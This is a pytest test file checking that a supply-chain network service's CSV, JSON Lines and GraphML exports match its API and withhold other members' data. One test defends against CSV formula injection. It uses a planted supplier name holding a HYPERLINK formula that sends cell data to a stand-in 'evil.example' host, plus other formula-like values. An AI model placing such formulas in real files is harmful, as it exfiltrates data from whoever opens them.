"""Each export format, read back as a spreadsheet, pandas or networkx reads it,
says what the API answers the member's people, on every store: the member and
its network (names, countries, kinds, tiers), each requirement reached or not,
the audit status and gap reason on the day, the edges with their commodities;
and nothing of another member's network."""

from __future__ import annotations

import zipfile
from collections import Counter
from dataclasses import replace
from datetime import date

import pytest

from access.principal import Principal, Role
from exports.formats import ExportFormat
from exports.run import ExportError, write_export
from graph.model import GraphBatch, Sourcing
from loaders.generate import generate
from tests.api.member_client import data
from tests.exports.api_view import RISK, api_view
from tests.exports.read import read_export
from tests.views.forum import AS_OF, PRINCIPALS, forum

FORMATS = [f.value for f in ExportFormat]
# What M1's export must never hold: M2, its own supplier, its audits' details, R2.
NEVER_FOR_M1 = ("M2", "S9", "A9", "A4", "Secret Bureau", "hidden wages", "F-4", "R2", "Palm")


def awkward_forum() -> GraphBatch:
    """The forum with what files trip on: a name with accents, quotes, a comma,
    XML's special characters and a line break; two commodities on one edge."""
    batch = forum()
    names = {"S2": 'Coopérative "Nord" & Fils, <Abidjan>', "S3": "Şirket Ünal\nLtd"}
    batch.organisations = [replace(o, name=names.get(o.id, o.name)) for o in batch.organisations]
    batch.sourcing = [*batch.sourcing, Sourcing("S1", "S2", "coffee")]
    return batch


def assert_same_as_the_api(read, api, member: str) -> None:
    assert read.order == api["order"]  # the member, then by tier then id: the API's pages
    assert read.nodes == api["nodes"]
    assert set(read.edges) == api["edges"]
    assert read.header["member"] == member
    assert read.header["nodes"] == len(api["nodes"]) and read.header["edges"] == len(api["edges"])
    for requirement, tiers in api["coverage"].items():
        counted = Counter(n["tier"] for n in read.nodes.values() if n["tier"] > 0)
        reached = Counter(
            n["tier"] for n in read.nodes.values() if n["reached"] and n["reached"][requirement]
        )
        assert {t: (counted[t], reached[t]) for t in counted} == tiers


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_forum_reads_back_as_the_api_answers(engine_store, tmp_path, fmt):
    engine_store.write(awkward_forum())
    path = tmp_path / f"m1.{fmt}"
    written = write_export(engine_store, "M1", ExportFormat(fmt), AS_OF, path)
    read = read_export(path, fmt)
    api = api_view(engine_store, PRINCIPALS["analyst"], AS_OF)
    assert_same_as_the_api(read, api, "M1")
    assert read.nodes["S2"]["name"] == 'Coopérative "Nord" & Fils, <Abidjan>'
    assert read.edges[("S1", "S2")] == ["cocoa", "coffee"]
    assert read.edges[("M1", "S3")] == ["palm oil"]
    assert read.nodes["S4"]["reason"] == "NOT_SHARED" and read.nodes["F1"]["reason"] == "NO_AUDIT"
    assert (written.nodes, written.edges) == (6, 7)
    raw = _all_bytes(path, fmt)
    for never in NEVER_FOR_M1:
        assert never.encode() not in raw, never


def test_text_a_spreadsheet_would_run_is_text_in_the_csv_and_as_written_elsewhere(
    engine_store, tmp_path
):
    """A supplier names its sub-suppliers: a name or commodity starting with =, +, -
    or @ would run as a formula in the analyst's spreadsheet (OWASP's CSV
    injection). The CSV cell gets a leading apostrophe; JSON Lines and GraphML,
    read by programs, keep the text as written."""
    batch = forum()
    names = {"S2": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "S3": "-2+3"}
    batch.organisations = [replace(o, name=names.get(o.id, o.name)) for o in batch.organisations]
    batch.sourcing = [*batch.sourcing, Sourcing("S1", "S2", "@SUM(1+1)")]
    engine_store.write(batch)
    reads = {}
    for fmt in FORMATS:
        write_export(engine_store, "M1", ExportFormat(fmt), AS_OF, tmp_path / f"m1.{fmt}")
        reads[fmt] = read_export(tmp_path / f"m1.{fmt}", fmt)
    csv_read = reads.pop("csv")
    assert csv_read.nodes["S2"]["name"] == "'" + names["S2"]
    assert csv_read.nodes["S3"]["name"] == "'-2+3"
    assert csv_read.edges[("S1", "S2")] == ["'@SUM(1+1)", "cocoa"]  # the cell, split at ;
    assert csv_read.nodes["S1"]["name"] == reads["jsonl"].nodes["S1"]["name"]  # others as written
    for fmt, read in reads.items():
        assert read.nodes["S2"]["name"] == names["S2"], fmt
        assert read.nodes["S3"]["name"] == "-2+3", fmt
        assert "@SUM(1+1)" in read.edges[("S1", "S2")], fmt


def _all_bytes(path, fmt) -> bytes:
    if fmt == "csv":
        with zipfile.ZipFile(path) as archive:
            return b"".join(archive.read(n) for n in archive.namelist())
    return path.read_bytes()


def test_the_three_formats_say_the_same(tmp_path):
    from graph.sqlite_store import SqliteStore

    store = SqliteStore(tmp_path / "data")
    try:
        store.write(generate(nodes=600, members=3, seed=11))
        member = store.members()[0]
        day = date(2026, 6, 30)
        reads = []
        for fmt in FORMATS:
            write_export(store, member, ExportFormat(fmt), day, tmp_path / f"x.{fmt}")
            reads.append(read_export(tmp_path / f"x.{fmt}", fmt))
    finally:
        store.close()
    first = reads[0]
    for other in reads[1:]:
        assert (other.order, other.nodes, other.edges) == (first.order, first.nodes, first.edges)
        common = {k: v for k, v in other.header.items() if v is not None}
        assert common == {k: v for k, v in first.header.items() if k in common}


def test_a_generated_network_reads_back_as_the_api_answers(engine_store, tmp_path):
    """Cycles, diamonds, audit gaps of several reasons, members supplying members."""
    batch = generate(nodes=400, members=3, seed=7)
    engine_store.write(batch)
    day = date(2026, 6, 30)
    member = sorted(o.id for o in batch.organisations if o.kind.value == "member")[0]
    api = api_view(engine_store, Principal(Role.ANALYST, member, f"k-{member}"), day)
    reads = []
    for fmt in FORMATS:
        path = tmp_path / f"{member}.{fmt}"
        write_export(engine_store, member, ExportFormat(fmt), day, path)
        reads.append(read_export(path, fmt))
        assert_same_as_the_api(reads[-1], api, member)
    read = reads[0]
    # DOMAIN.md's network, restated naively: whatever the member reaches along
    # SOURCES_FROM, and every edge out of it or of those; nothing else.
    reached, frontier, edges = {member}, [member], {}
    while frontier:
        buyer = frontier.pop()
        for e in engine_store.sellers_of(buyer):
            edges.setdefault((buyer, e.seller), []).append(e.commodity)
            if e.seller not in reached:
                reached.add(e.seller)
                frontier.append(e.seller)
    assert set(read.nodes) == reached
    # The risk columns: the API's risk for every node of the network.
    who = Principal(Role.ANALYST, member, f"k-{member}")
    risk = data(engine_store, who, RISK, day=str(day))["risk"]
    assert risk["network"] == len(risk["nodes"]) == len(reached) - 1
    for read in reads:
        for node in risk["nodes"]:
            assert read.risk[node["id"]]["risk_score"] == pytest.approx(node["score"])
    for read in reads:
        assert read.edges == {pair: sorted(c) for pair, c in edges.items()}


def test_an_unknown_member_or_a_supplier_is_no_export(tmp_path):
    from graph.sqlite_store import SqliteStore

    store = SqliteStore(tmp_path / "data")
    try:
        store.write(forum())
        for who in ("M9", "S1"):
            with pytest.raises(ExportError, match=f"unknown member '{who}'"):
                write_export(store, who, ExportFormat.csv, AS_OF, tmp_path / "x.zip")
    finally:
        store.close()
    assert not list(tmp_path.glob("x.zip*"))
